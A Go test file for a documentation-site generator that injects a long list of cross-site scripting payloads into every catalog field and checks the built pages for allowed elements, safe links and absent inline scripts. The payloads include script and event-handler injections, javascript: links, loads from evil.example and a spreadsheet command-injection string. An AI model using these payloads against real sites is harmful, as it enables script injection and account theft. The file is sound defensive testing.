package site_test

import (
	"bytes"
	"context"
	"encoding/json"
	"encoding/xml"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"net/url"
	"path"
	"regexp"
	"slices"
	"strings"
	"sync"
	"testing"
	"testing/fstest"

	"github.com/yuin/goldmark"
	"github.com/yuin/goldmark/extension"
	renderer "github.com/yuin/goldmark/renderer/html"
	"golang.org/x/net/html"

	"github.com/errdocs/errdocs/content"
	"github.com/errdocs/errdocs/internal/testenv"
	"github.com/errdocs/errdocs/search"
	"github.com/errdocs/errdocs/search/find"
	"github.com/errdocs/errdocs/search/resolve"
	"github.com/errdocs/errdocs/site"
	"github.com/errdocs/errdocs/templates"
)

// payloads run alert(1) where text is taken for markup, for an attribute, for an address, for a script, a
// style or a template. Each is put into every text field of a catalog.
var payloads = []string{
	`<script>alert(1)</script>`, `<SCRIPT>alert(1)</SCRIPT>`, `<script src=//evil.example/x.js></script>`, `<script/x>alert(1)</script/x>`,
	`</script><script>alert(1)</script>`, `</title><script>alert(1)</script>`, `</textarea><script>alert(1)</script>`, `</style><script>alert(1)</script>`,
	`--><script>alert(1)</script>`, `]]><script>alert(1)</script>`, `<!--<script>alert(1)//-->`, `<<script>alert(1);//<</script>`,
	`<scr<script>ipt>alert(1)</scr</script>ipt>`, `<script>alert&#40;1&#41;</script>`, `<script ~~~>alert(1)</script ~~~>`, `<script type=module>alert(1)</script>`,
	`<img src=x onerror=alert(1)>`, `<img/src=x/onerror=alert(1)>`, `<IMG SRC=x OnErRoR=alert(1)>`, `"><img src=x onerror=alert(1)>`,
	`'><img src=x onerror=alert(1)>`, "`><img src=x onerror=alert(1)>", `<img src="x" onerror="alert(1)"`, `<img """><script>alert(1)</script>">`,
	`<img src=javascript:alert(1)>`, `<img srcset="x" onerror=alert(1)>`, `<image src=x onerror=alert(1)>`, `<img src=x:x onerror=alert(1)//`,
	`<svg onload=alert(1)>`, `<svg/onload=alert(1)>`, `"><svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`,
	`<svg><animate onbegin=alert(1) attributeName=x>`, `<svg><a xlink:href=javascript:alert(1)><text>x`, `<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x">`,
	`<svg><style><img src=x onerror=alert(1)></style>`, `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`, `<svg><foreignObject><iframe onload=alert(1)>`,
	`<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`, `<math href=javascript:alert(1)>x</math>`,
	`<body onload=alert(1)>`, `<body onpageshow=alert(1)>`, `<html onmouseover=alert(1)>`, `<iframe src=javascript:alert(1)>`,
	`<iframe srcdoc="<script>alert(1)</script>">`, `<iframe onload=alert(1)></iframe>`, `<object data=javascript:alert(1)>`, `<object data="data:text/html,<script>alert(1)</script>">`,
	`<embed src=javascript:alert(1)>`, `<embed code=//evil.example/x.swf>`, `<applet code=x onerror=alert(1)>`, `<frameset onload=alert(1)>`,
	`<form action=javascript:alert(1)><input type=submit>`, `<button formaction=javascript:alert(1)>x`, `<input onfocus=alert(1) autofocus>`, `<select onfocus=alert(1) autofocus>`,
	`<textarea onfocus=alert(1) autofocus>`, `<keygen onfocus=alert(1) autofocus>`, `<details open ontoggle=alert(1)>`, `<video><source onerror=alert(1)>`,
	`<video src=x onerror=alert(1)>`, `<audio src=x onerror=alert(1)>`, `<marquee onstart=alert(1)>x`, `<isindex type=image src=1 onerror=alert(1)>`,
	`<link rel=stylesheet href=//evil.example/x.css>`, `<link rel=import href=//evil.example>`, `<style>@import '//evil.example/x.css';</style>`, `<style>*{background:url(//evil.example)}</style>`,
	`<meta http-equiv=refresh content="0;url=javascript:alert(1)">`, `<meta http-equiv=refresh content="0;url=//evil.example">`, `<base href=//evil.example/>`, `<base target=_blank>`,
	`<a href=javascript:alert(1)>x</a>`, `<a href="java&#115;cript:alert(1)">x</a>`, `<a href="&#x6A;avascript:alert(1)">x</a>`, `<a href="javascript&colon;alert(1)">x</a>`,
	`<a href=data:text/html,<script>alert(1)</script>>x</a>`, `<a href=vbscript:alert(1)>x</a>`, `<a onclick=alert(1) href=#>x</a>`, `<a autofocus tabindex=1 onfocus=alert(1)>x`,
	`" onmouseover="alert(1)`, `' onmouseover='alert(1)`, `" autofocus onfocus=alert(1) x="`, `" style="background:url(//evil.example)`,
	`x" onerror=alert(1) src="x`, "` onmouseover=alert(1) `", `\" onload=alert(1) x=\"`, `'-alert(1)-'`,
	`";alert(1)//`, `';alert(1)//`, `\';alert(1)//`, `</script>";alert(1)//`,
	`${alert(1)}`, `{{constructor.constructor('alert(1)')()}}`, `{{alert(1)}}`, `{{define "x"}}{{end}}`,
	`{{template "head"}}`, `<%= alert(1) %>`, `#{alert(1)}`, `[[SERVER_ERROR]]<b onclick=alert(1)>`,
	`javascript:alert(1)`, `JaVaScRiPt:alert(1)`, `data:text/html,<script>alert(1)</script>`, `//evil.example/x`,
	`[x](javascript:alert(1))`, `[x](JAVASCRIPT:alert(1))`, `[x](java&#115;cript:alert(1))`, `[x](javascript&colon;alert(1))`,
	`[x](data:text/html,<script>alert(1)</script>)`, `[x](vbscript:alert(1))`, `[x](blob:https://evil.example/x)`, `[x](feed:javascript:alert(1))`,
	`[x](//evil.example)`, `[x](\\evil.example)`, `[x](/\evil.example)`, `[x](%6Aavascript:alert(1))`,
	`[x](https://a@evil.example/)`, `[x](<javascript:alert(1)>)`, `[x](jar:https://evil.example!/x)`, `[x](view-source:javascript:alert(1))`,
	`![x](x" onerror="alert(1))`, `![x](javascript:alert(1))`, `<javascript:alert(1)>`, `<https://a" onmouseover="alert(1)>`,
	`[x](https://a.example "x" onmouseover="alert(1)")`, `[x](https://a.example/"onmouseover=alert(1))`, `[x][y]: javascript:alert(1)`, `**<img src=x onerror=alert(1)>**`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<xmp><p title="</xmp><img src=x onerror=alert(1)>">`, `<template><script>alert(1)</script></template>`, `<plaintext>`,
	`<x onclick=alert(1)>`, `<x contenteditable onfocus=alert(1) autofocus>`, `<dialog open onclose=alert(1)>`, `<portal src=//evil.example>`,
	`&lt;script&gt;alert(1)&lt;/script&gt;`, `&#60;script&#62;alert(1)&#60;/script&#62;`, `%3Cscript%3Ealert(1)%3C/script%3E`, `\u003cscript\u003ealert(1)\u003c/script\u003e`,
	`\x3cscript\x3ealert(1)\x3c/script\x3e`, `+ADw-script+AD4-alert(1)+ADw-/script+AD4-`, `＜script＞alert(1)＜/script＞`, `<ſcript>alert(1)</ſcript>`,
	`=cmd|'/c calc'!A1`, `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y "z">]>`, `<![CDATA[<script>alert(1)</script>]]>`, `__proto__`,
}

// hostileCatalog has a vendor, a set, a code, a concept and a change for each payload, with the payload in
// each text field. In Markdown fields, where most payloads are problems, it is written as code.
func hostileCatalog() fstest.MapFS {
	fsys := fstest.MapFS{}
	put := func(name string, v any) {
		data, err := json.Marshal(v) // is YAML too
		if err != nil {
			panic(err)
		}
		fsys[name] = &fstest.MapFile{Data: data}
	}
	var concepts, news []any
	for i, p := range payloads {
		id := fmt.Sprintf("v%d", i)
		concepts = append(concepts, map[string]any{"id": id, "title": title(p), "summary": sentence(p), "category": "internal", "advice": code(p)})
		news = append(news, map[string]any{"date": "2025-11-20", "title": fit(fmt.Sprintf("%d %s", i, p), 60), "kind": "note", "summary": code(p)})
		put("vendors/"+id+"/vendor.yaml", hostileVendor(p))
		put("vendors/"+id+"/set.yaml", hostileSet(p, i))
		fsys["vendors/"+id+"/notes.md"] = &fstest.MapFile{Data: []byte("## " + code(p) + "\n\n| " + strings.ReplaceAll(code(p), "|", `\|`) + " |\n|--|\n\n" + code(p) + "\n")}
		fsys["vendors/"+id+"/set/code.md"] = &fstest.MapFile{Data: []byte("```\n" + p + "\n```\n\n> [!NOTE]\n> " + code(p) + "\n")}
		fsys["vendors/"+id+"/examples/a.js"] = &fstest.MapFile{Data: []byte(p + "\n")}
	}
	put("concepts.yaml", concepts)
	put("changes.yaml", news)
	const worst = `"><svg onload=alert(1)></title><script>alert(1)</script>`
	put("site.yaml", map[string]any{"title": worst, "summary": worst + ".", "home": code(worst), "repo_url": "https://git.example.com/x",
		"issue_url": "https://git.example.com/x/new?title={title}&body={body}", "edit_url": "https://git.example.com/x/{file}"})
	return fsys
}

func hostileVendor(p string) map[string]any {
	return map[string]any{
		"name": title(p), "product": p, "summary": sentence(p), "sets": []any{"set"},
		"envelopes": []any{map[string]any{"id": "body", "title": title(p), "returned_when": p, "media_type": p, "code": "/" + pointer(p), "note": code(p),
			"fields": []any{map[string]any{"name": p, "type": p, "summary": p, "pointer": "/" + pointer(p)}},
			"sample": map[string]any{"title": title(p), "language": "json", "body": `{"` + p, "malformed": p, "note": p}}},
		"headers":  []any{map[string]any{"name": p, "summary": p, "absent_means": p, "codes": []any{"set/code"}, "values": []any{map[string]any{"value": p, "meaning": p}}}},
		"classes":  []any{map[string]any{"id": "class", "title": title(p), "summary": sentence(p), "advice": code(p)}},
		"support":  map[string]any{"contact": p, "collect": []any{p}},
		"examples": []any{map[string]any{"title": title(p), "summary": p, "codes": []any{"set/code"}, "tabs": []any{map[string]any{"title": p, "file": "examples/a.js"}}}},
		"sources":  []any{map[string]any{"title": p, "url": "https://a.example/", "quote": p}},
	}
}

func hostileSet(p string, i int) map[string]any {
	id := fmt.Sprintf("v%d", i)
	entry := map[string]any{
		"code": fit(p, 120), "slug": "code", "title": title(p), "summary": sentence(p), "description": code(p), "name": p, "signature": p, "class": "class",
		"parameters": []any{map[string]any{"name": p, "type": p, "summary": p}}, "aliases": []any{fmt.Sprintf("A%d ", i) + p}, "category": "internal", "concept": id, "match": "exact",
		"http": []any{500}, "fault": "server", "next_step": "wait", "retry": map[string]any{"policy": "with-backoff", "header": p, "note": p},
		"causes": []any{code(p)}, "actions": map[string]any{"engineer": []any{code(p)}, "support": []any{code(p)}, "user": []any{code(p)}},
		"user_message": map[string]any{"say": p, "note": p}, "where": []any{map[string]any{"operation": p, "delivered_by": p}}, "state_after": p,
		"lifecycle": map[string]any{"status": "deprecated", "since": p, "until": p, "note": p}, "discrepancies": []any{code(p)}, "source": map[string]any{"title": p, "quote": p},
		"samples": []any{
			map[string]any{"title": title(p), "language": "text", "body": p, "note": p}, map[string]any{"language": "javascript", "body": p},
			map[string]any{"language": "http", "body": "HTTP/1.1 500 " + p + "\nX: " + p + "\n\n" + p}, map[string]any{"language": "xml", "body": "<x>" + p + "<", "malformed": p},
			map[string]any{"language": "yaml", "body": `"` + p, "malformed": p},
		},
	}
	return map[string]any{"title": title(p), "key": fmt.Sprintf("K%d", i), "kind": "error", "origins": "ours", "summary": sentence(p), "envelope": "body", "note": code(p),
		"source": map[string]any{"title": p, "quote": p}, "codes": []any{entry}}
}

func fit(p string, n int) string {
	if len(p) > n {
		p = strings.TrimSpace(p[:n])
	}
	return p
}

func title(p string) string    { return fit(p, 60) }
func sentence(p string) string { return fit(p, 190) + "." }

// code writes a payload as a span of code.
func code(p string) string { return "``` " + p + " ```" }

func pointer(p string) string { return strings.NewReplacer("~", "~0", "/", "~1").Replace(p) }

// hostileSite is the site of the hostile catalog. What the content rules do not let through is taken out of
// the catalog, field by field, until it loads: that is not a payload any more.
var hostileSite = sync.OnceValues(func() (*site.Site, error) {
	c, err := content.Load(hostileCatalog())
	if err != nil {
		return nil, err
	}
	return site.Build(context.Background(), c, site.Options{BaseURL: below, Version: "test"})
})

func hostile(t *testing.T) *site.Site {
	t.Helper()
	s, err := hostileSite()
	var problems content.Problems
	if errors.As(err, &problems) {
		t.Fatalf("%d problems, such as %v", len(problems), problems[:min(20, len(problems))])
	}
	if err != nil {
		t.Fatal(err)
	}
	return s
}

// TestPayloadsEverywhere reads each file of the hostile site as what it is. Pages hold only elements and
// attributes of the list, and lead only where they may; the other files are whole and contain the payloads as
// text.
func TestPayloadsEverywhere(t *testing.T) {
	if len(payloads) < 100 {
		t.Fatalf("only %d payloads", len(payloads))
	}
	s := hostile(t)
	pages := 0
	for _, f := range s.Files {
		switch path.Ext(f.Path) {
		case ".html":
			pages++
			checkMarkup(t, f.Path, f.Data)
		case ".json":
			if !json.Valid(f.Data) {
				t.Errorf("%s is no JSON", f.Path)
			}
		case ".xml", ".svg":
			if err := wellFormed(f.Data); err != nil {
				t.Errorf("%s: %v", f.Path, err)
			}
		case ".md":
			checkMarkdown(t, f.Path, f.Data)
		}
	}
	if pages < 4*len(payloads) {
		t.Errorf("only %d pages", pages)
	}
	for i, p := range payloads {
		page := fmt.Sprintf("v%d/set/code/index.html", i)
		root, err := html.Parse(bytes.NewReader(s.File(page)))
		if err != nil {
			t.Fatal(err)
		}
		if !strings.Contains(text(root), p) {
			t.Errorf("%s does not show %q as text", page, p)
		}
	}
	t.Logf("long: payloads in files runs=%d payloads=%d", len(s.Files), len(payloads))
}

func text(n *html.Node) string {
	var b strings.Builder
	for d := range n.Descendants() {
		if d.Type == html.TextNode {
			b.WriteString(d.Data)
		}
	}
	return b.String()
}

func wellFormed(data []byte) error {
	d := xml.NewDecoder(bytes.NewReader(data))
	for {
		if _, err := d.Token(); err == io.EOF {
			return nil
		} else if err != nil {
			return err
		}
	}
}

var (
	elements = strings.Fields(`html head body meta title link script header footer main nav section article aside div p span a ul ol li dl dt dd
		h1 h2 h3 h4 h5 h6 table thead tbody tr th td caption pre code b strong em i small abbr q blockquote br hr wbr details summary del sub sup s img
		form label input button select option textarea svg path circle time kbd samp output dialog noscript template mark var search figure figcaption fieldset legend`)
	attributes = strings.Fields(`id class lang dir href rel title content name property charset type src value for method action placeholder role
		tabindex scope colspan rowspan hidden translate disabled checked open datetime start itemscope hreflang sizes media as crossorigin
		autocomplete autocapitalize spellcheck enterkeyhint maxlength required selected rows cols accesskey defer async download inputmode
		width height alt loading viewbox d fill stroke cx cy r stroke-width stroke-linecap stroke-linejoin focusable http-equiv accept multiple popover popovertarget`)
	ownImage      = regexp.MustCompile(`^(\.\./)*assets/images/[A-Za-z0-9_.-]+-[0-9a-f]{12}\.(png|jpe?g|gif)$`)
	freeAttribute = regexp.MustCompile(`^(aria|data)-[a-z-]+$`)
)

// checkMarkup checks a page against the lists.
func checkMarkup(t *testing.T, name string, data []byte) {
	t.Helper()
	root, err := html.Parse(bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	for n := range root.Descendants() {
		switch {
		case n.Type == html.CommentNode:
			t.Errorf("%s: a comment: %q", name, n.Data)
		case n.Type == html.ElementNode:
			checkElement(t, name, n)
		}
	}
}

func checkElement(t *testing.T, name string, n *html.Node) {
	t.Helper()
	if !slices.Contains(elements, n.Data) {
		t.Errorf("%s: an element %s", name, n.Data)
	}
	has := map[string]string{}
	for _, a := range n.Attr {
		has[a.Key] = a.Val
		if !slices.Contains(attributes, strings.ToLower(a.Key)) && !freeAttribute.MatchString(a.Key) {
			t.Errorf("%s: <%s %s=%q>", name, n.Data, a.Key, a.Val)
		}
		if slices.Contains([]string{"href", "src", "action", "data-copy-link"}, a.Key) && !leadsWhereItMay(a.Val) {
			t.Errorf("%s: <%s %s=%q> leads where it must not", name, n.Data, a.Key, a.Val)
		}
	}
	switch {
	case n.Data == "script" && has["type"] == "application/ld+json":
		if n.FirstChild == nil || !json.Valid([]byte(n.FirstChild.Data)) {
			t.Errorf("%s: data that is no JSON", name)
		}
	case n.Data == "script" && (has["src"] == "" || n.FirstChild != nil):
		t.Errorf("%s: a script in the page", name)
	case n.Data == "img" && (has["alt"] == "" || has["width"] == "" || has["height"] == "" || !ownImage.MatchString(has["src"])):
		t.Errorf("%s: an image %v", name, has)
	case n.Data == "meta" && has["http-equiv"] == "refresh":
		if to, ok := strings.CutPrefix(has["content"], "0; url="); !ok || !leadsWhereItMay(to) {
			t.Errorf("%s: refreshes to %q", name, has["content"])
		}
	}
}

// leadsWhereItMay reports whether an address is one that pages may contain: http, https or mailto with nothing
// before the host, or one of the site. It is judged as browsers read it, with control characters left out.
func leadsWhereItMay(address string) bool {
	address = strings.Map(func(r rune) rune {
		if r <= ' ' {
			return -1
		}
		return r
	}, address)
	u, err := url.Parse(address)
	if err != nil || strings.Contains(address, `\`) {
		return false
	}
	switch u.Scheme {
	case "http", "https":
		return u.Host != "" && u.User == nil && !strings.Contains(u.Host, "evil")
	case "mailto":
		return true
	case "":
		return u.Host == "" && !strings.HasPrefix(address, "//") && (!strings.HasPrefix(address, "/") || strings.HasPrefix(address, "/errdocs/"))
	}
	return false
}

// openMarkdown renders Markdown as a reader would that trusts it: with the HTML and the links in it.
var openMarkdown = goldmark.New(goldmark.WithExtensions(extension.Table, extension.TaskList, extension.Strikethrough, extension.Footnote), goldmark.WithRendererOptions(renderer.WithUnsafe()))

// frontMatter is the YAML at the start of a .md file, which is not Markdown.
var frontMatter = regexp.MustCompile(`(?s)^---\n.*?\n---\n`)

// checkMarkdown renders the Markdown of a page and checks that against the lists too.
func checkMarkdown(t *testing.T, name string, data []byte) {
	t.Helper()
	var b bytes.Buffer
	data = frontMatter.ReplaceAll(data, nil)
	if err := openMarkdown.Convert(data, &b); err != nil {
		t.Fatal(err)
	}
	checkMarkup(t, name, b.Bytes())
}

// TestPayloadsAsMarkdown renders each payload as Markdown in a field and in a note. It is a problem of a rule
// about Markdown, with its position, or the page is as all others.
func TestPayloadsAsMarkdown(t *testing.T) {
	refused, runs := 0, 0
	for i, p := range payloads {
		if !testenv.Long() && i%5 != 0 {
			continue // each takes a site of its own
		}
		runs++
		fsys := fstest.MapFS{
			"site.yaml":             {Data: []byte("title: T\nsummary: S.\n")},
			"vendors/v/vendor.yaml": {Data: []byte("name: V\nsummary: S.\nsets: [set]\n")},
			"vendors/v/set/code.md": {Data: []byte(p + "\n\nx " + p + " y\n\n- " + p + "\n\n> " + p + "\n\n## " + p + "\n\n[a]: " + p + "\n\n[a]\n")},
			"vendors/v/set.yaml":    {Data: set(t, p)},
			"vendors/v/notes.md":    {Data: []byte("| a |\n|---|\n| " + strings.ReplaceAll(p, "|", `\|`) + " |\n")},
		}
		c, err := content.Load(fsys)
		var s *site.Site
		if err == nil {
			s, err = site.Build(context.Background(), c, site.Options{BaseURL: below})
		}
		var problems content.Problems
		if errors.As(err, &problems) {
			refused++
			for _, problem := range problems {
				checkSaid(t, problem)
			}
			continue
		}
		if err != nil {
			t.Errorf("%d: %q: %v", i, p, err)
			continue
		}
		for _, f := range s.Files {
			if path.Ext(f.Path) == ".html" {
				checkMarkup(t, fmt.Sprintf("%q: %s", p, f.Path), f.Data)
			}
		}
	}
	if refused < runs/2 {
		t.Errorf("only %d of %d payloads are problems in Markdown", refused, runs)
	}
	t.Logf("long: payloads as Markdown runs=%d refused=%d", runs, refused)
}

func set(t *testing.T, p string) []byte {
	t.Helper()
	data, err := json.Marshal(map[string]any{"title": "Set", "key": "SET", "kind": "error", "origins": "ours", "summary": "S.", "codes": []any{map[string]any{
		"code": "CODE", "title": "T", "summary": "S.", "category": "internal", "fault": "server", "next_step": "wait", "retry": map[string]any{"policy": "never"},
		"description": p, "causes": []any{p, "x " + p}, "actions": map[string]any{"engineer": []any{p}},
	}}})
	if err != nil {
		t.Fatal(err)
	}
	return data
}

// checkSaid checks a problem against what all promise.
func checkSaid(t *testing.T, p content.Problem) {
	t.Helper()
	if !place.MatchString(p.String()) || p.Rule == "" || p.Hint == "" || len(p.String()+p.Hint+p.Excerpt) > content.MaxProblem {
		t.Errorf("%d bytes: %s\n%s\n%s", len(p.String()+p.Hint+p.Excerpt), p, p.Excerpt, p.Hint)
	}
}

var place = regexp.MustCompile(`^[^:]+:[1-9][0-9]*:[1-9][0-9]*: .+ \[[a-z-]+\]$`)

// executing are the ways in which a script turns text into markup or code, or a page contains some.
var executing = regexp.MustCompile(`\b(innerHTML|outerHTML|insertAdjacentHTML|createContextualFragment|setHTMLUnsafe|parseFromString|srcdoc|execScript)\b|\bdocument\.write|\beval\(|\bnew Function\b|\bFunction\(|\bset(Timeout|Interval)\(\s*["'` + "`" + `]|\bimport\(\s*[^"'\s]|setAttribute\(\s*["']on|javascript:`)

// TestNothingInline reads templates and scripts: no script turns text into markup or code, and no page has
// an inline script, style or handler.
func TestNothingInline(t *testing.T) {
	read := 0
	err := fs.WalkDir(templates.Default(), ".", func(name string, e fs.DirEntry, err error) error {
		if err != nil || e.IsDir() {
			return err
		}
		data, err := fs.ReadFile(templates.Default(), name)
		if err != nil {
			return err
		}
		read++
		checkSource(t, "templates/"+name, data)
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range slices.Concat(search.Scripts(), find.Scripts(), resolve.Scripts()) {
		read++
		checkSource(t, "search/"+f.Path, f.Data)
	}
	if read < 30 {
		t.Errorf("only %d files were read", read)
	}
	for _, bad := range []string{`e.innerHTML = x`, `eval("x")`, `new Function(x)`, `<p onclick="x">`, `<p style="x">`, `<script>x</script>`} {
		probe := &testing.T{}
		checkSource(probe, "probe.html", []byte(bad))
		if !probe.Failed() {
			t.Errorf("%s is not seen", bad)
		}
	}
}

func checkSource(t *testing.T, name string, data []byte) {
	if found := executing.Find(data); found != nil {
		t.Errorf("%s holds %s", name, found)
	}
	if path.Ext(name) != ".html" {
		return
	}
	z := html.NewTokenizer(bytes.NewReader(data))
	for {
		kind := z.Next()
		if kind == html.ErrorToken {
			return
		}
		token := z.Token()
		if kind != html.StartTagToken && kind != html.SelfClosingTagToken {
			continue
		}
		src := false
		for _, a := range token.Attr {
			src = src || a.Key == "src"
			if a.Key == "style" || a.Key == "srcdoc" || strings.HasPrefix(a.Key, "on") {
				t.Errorf("%s: <%s %s>", name, token.Data, a.Key)
			}
		}
		if token.Data == "style" || token.Data == "script" && !src {
			t.Errorf("%s: an inline %s", name, token.Data)
		}
	}
}
